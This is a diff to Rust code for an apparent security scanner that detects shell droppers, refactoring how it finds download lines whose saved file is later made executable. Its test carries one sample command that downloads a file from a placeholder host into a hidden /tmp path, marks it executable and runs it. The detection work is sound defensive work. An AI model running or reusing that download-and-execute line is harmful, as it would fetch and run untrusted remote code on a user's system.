@@ -516,22 +516,19 @@ fn saved_name(download: &str) -> Option<String> {
 
 /// The first download in `text` whose saved file a `chmod +x` (or `os.chmod`, `Start-Process`,
 /// quarantine removal) line names.
-fn dropped_and_made_executable(text: &str) -> Option<regex::Match<'_>> {
-    let newlines: Vec<usize> = memchr::memchr_iter(b'\n', text.as_bytes()).collect();
-    // The line holding `at` is the one ending at the first newline at or after it.
-    let line_of = |at: usize| newlines.partition_point(|&nl| nl < at);
-    let line_end = |at: usize| newlines.get(line_of(at)).copied().unwrap_or(text.len());
-    let line_start = |at: usize| line_of(at).checked_sub(1).map_or(0, |i| newlines[i] + 1);
+fn dropped_and_made_executable(unit: &Unit) -> Option<regex::Match<'_>> {
+    let text = &unit.text;
     let marks = ExecutableMarks::new(
         MAKE_EXECUTABLE
             .find_iter(text)
-            .map(|m| &text[line_start(m.start())..line_end(m.start())]),
+            .map(|m| &text[unit.line_span(m.start())]),
     );
     if marks.lines.is_empty() {
         return None;
     }
     DOWNLOAD_TO_FILE.find_iter(text).find(|d| {
-        saved_name(&text[d.start()..line_end(d.start())]).is_some_and(|name| marks.name(&name))
+        let rest_of_line = d.start()..unit.line_span(d.start()).end;
+        saved_name(&text[rest_of_line]).is_some_and(|name| marks.name(&name))
     })
 }
 
@@ -784,7 +781,7 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
         }
     }
     for unit in units.iter().filter(|u| u.lang != Language::Prose) {
-        if let Some(d) = dropped_and_made_executable(&unit.text) {
+        if let Some(d) = dropped_and_made_executable(unit) {
             let (line, col) = unit.position(d.start());
             let mut f = finding(
                 &DownloadChmodExecute::INFO,
@@ -860,7 +857,10 @@ mod tests {
 
     #[test]
     fn a_dropper_makes_the_downloaded_file_executable() {
-        let found = |text: &str| dropped_and_made_executable(text).map(|m| m.start());
+        let found = |text: &str| {
+            let unit = Unit::new("run.sh", Language::Shell, text, 1);
+            dropped_and_made_executable(&unit).map(|m| m.start())
+        };
         assert_eq!(
             found("curl -sS https://h.example/m -o /tmp/.bg && chmod +x /tmp/.bg && /tmp/.bg"),
             Some(0)
